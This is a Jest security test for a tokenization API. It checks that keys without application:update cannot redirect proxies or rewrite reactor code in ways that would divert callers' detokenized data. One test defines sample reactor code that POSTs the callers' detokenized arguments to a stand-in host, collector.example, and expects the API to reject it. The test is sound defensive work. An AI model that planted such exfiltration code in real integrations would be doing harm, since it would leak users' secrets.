// A management key holds no token permission, yet a pre-configured proxy or a reactor receives what its callers' keys
// detokenize. Whoever changes where that goes (a proxy's destination or transforms, a reactor's code, a formula a
// reactor runs, their configuration) would receive the callers' plaintext: it takes application:update, the tenant's
// administrator right (docs/security.md, "Where callers' data goes is written with application:update").
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createApplication, createTenant, revealingApplication, startTestApi, type TestApi } from '../support/api.js';
import { client } from '../support/http.js';
import { startHttpsServer, testCertificates, type HttpsTestServer } from '../support/https.js';
import { send } from '../support/proxy.js';

const MERGE = { 'Content-Type': 'application/merge-patch+json' };
const SECRET = 'card-4242-secret';

let api: TestApi;
let destination: HttpsTestServer;
let admin: ReturnType<typeof client>;
let managementKey: string;
let userKey: string;
let tokenId: string;
const received: Array<{ path: string; body: string }> = [];

beforeAll(async () => {
  const { caFile } = await testCertificates();
  destination = await startHttpsServer((req: IncomingMessage, res: ServerResponse) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      received.push({ path: req.url ?? '', body: Buffer.concat(chunks).toString('utf8') });
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{}');
    });
  });
  api = await startTestApi({ TOKENVAULT_PROXY_ALLOWED_HOSTS: 'localhost', TOKENVAULT_PROXY_CA_FILE: caFile });
  ({ managementKey } = await createTenant(api.url, api.operatorKey));
  admin = client(api.url, managementKey);
  userKey = (await revealingApplication(api.url, managementKey, ['token:create', 'token:use'])).key;
  tokenId = (await client(api.url, userKey).post('/tokens', { body: { type: 'token', data: SECRET } })).body.id;
}, 60_000);

afterAll(async () => {
  await api?.close();
  await destination?.close();
});

const editor = async (permissions: string[]) =>
  client(
    api.url,
    (await createApplication(api.url, managementKey, { name: 'editor', type: 'management', permissions })).key,
  );

describe('a key without application:update does not choose where callers’ detokenized data goes', () => {
  test('a proxy: its destination, transforms and configuration', async () => {
    const proxy = (
      await admin.post('/proxies', { body: { name: 'issuer', destination_url: `${destination.url}/issuer` } })
    ).body as { id: string; key: string };
    const proxyEditor = await editor(['proxy:read', 'proxy:update']);

    for (const change of [
      { destination_url: `${destination.url}/collect` },
      { request_transform: { code: 'module.exports = async (req) => req;' } },
      { response_transform: { code: 'module.exports = async (res) => res;' } },
      { configuration: { COLLECT: `${destination.url}/collect` } },
    ]) {
      const answer = await proxyEditor.patch(`/proxies/${proxy.id}`, { body: change, headers: MERGE });
      expect([Object.keys(change)[0], answer.status]).toEqual([Object.keys(change)[0], 403]);
      expect(answer.body.detail).toMatch(/application:update/);
    }
    // The callers' plaintext still goes where the administrator pointed the proxy, and nowhere else.
    received.length = 0;
    const called = await send(api.url, 'POST', '/proxy', {
      headers: { 'BT-API-KEY': userKey, 'BT-PROXY-KEY': proxy.key, 'Content-Type': 'application/json' },
      body: JSON.stringify({ card: `{{ ${tokenId} }}` }),
    });
    expect(called.status).toBe(200);
    expect(received).toEqual([{ path: '/issuer', body: JSON.stringify({ card: SECRET }) }]);

    // A rename, or a PUT that leaves those fields as they are, stays the editor's; application:update may re-point.
    expect(
      (await proxyEditor.patch(`/proxies/${proxy.id}`, { body: { name: 'renamed' }, headers: MERGE })).status,
    ).toBe(200);
    expect(
      (
        await proxyEditor.put(`/proxies/${proxy.id}`, {
          body: { name: 'issuer', destination_url: `${destination.url}/issuer` },
        })
      ).status,
    ).toBe(200);
    const administrator = await editor(['proxy:update', 'application:update']);
    expect(
      (
        await administrator.patch(`/proxies/${proxy.id}`, {
          body: { destination_url: `${destination.url}/v2` },
          headers: MERGE,
        })
      ).status,
    ).toBe(200);
  });

  test('a reactor: its code and configuration, and the code of a formula it runs', async () => {
    const code = 'module.exports = async (req) => ({ raw: { ok: true } });';
    const reactor = (await admin.post('/reactors', { body: { name: 'charge', code, configuration: { A: 'x' } } }))
      .body as { id: string };
    const formulaBody = { name: 'f', type: 'private', code, configuration: [], request_parameters: [] };
    const formula = (await admin.post('/reactor-formulas', { body: formulaBody })).body as { id: string };
    expect(
      (await admin.post('/reactors', { body: { name: 'by formula', formula: { id: formula.id }, configuration: {} } }))
        .status,
    ).toBe(201);
    const reactorEditor = await editor(['reactor:read', 'reactor:update']);

    // Code that would send the args (the callers' detokenized data) anywhere, or configuration that tells it where.
    const exfiltrate =
      "module.exports = async (req) => { await fetch('https://collector.example', { method: 'POST', body: JSON.stringify(req.args) }); return {}; };";
    for (const change of [{ code: exfiltrate }, { configuration: { A: 'https://collector.example' } }]) {
      const answer = await reactorEditor.patch(`/reactors/${reactor.id}`, { body: change, headers: MERGE });
      expect([Object.keys(change)[0], answer.status]).toEqual([Object.keys(change)[0], 403]);
      expect(answer.body.detail).toMatch(/application:update/);
    }
    expect((await admin.get(`/reactors/${reactor.id}`)).body.code).toBe(code);
    const rewritten = await reactorEditor.put(`/reactor-formulas/${formula.id}`, {
      body: { ...formulaBody, code: exfiltrate },
    });
    expect(rewritten.status).toBe(403);
    expect((await admin.get(`/reactor-formulas/${formula.id}`)).body.code).toBe(code);

    // A rename stays the editor's; application:update may change the code.
    expect(
      (await reactorEditor.patch(`/reactors/${reactor.id}`, { body: { name: 'renamed' }, headers: MERGE })).status,
    ).toBe(200);
    const administrator = await editor(['reactor:update', 'application:update']);
    expect(
      (
        await administrator.patch(`/reactors/${reactor.id}`, {
          body: { code: 'module.exports = async () => ({ raw: 2 });' },
          headers: MERGE,
        })
      ).status,
    ).toBe(200);
  });
});
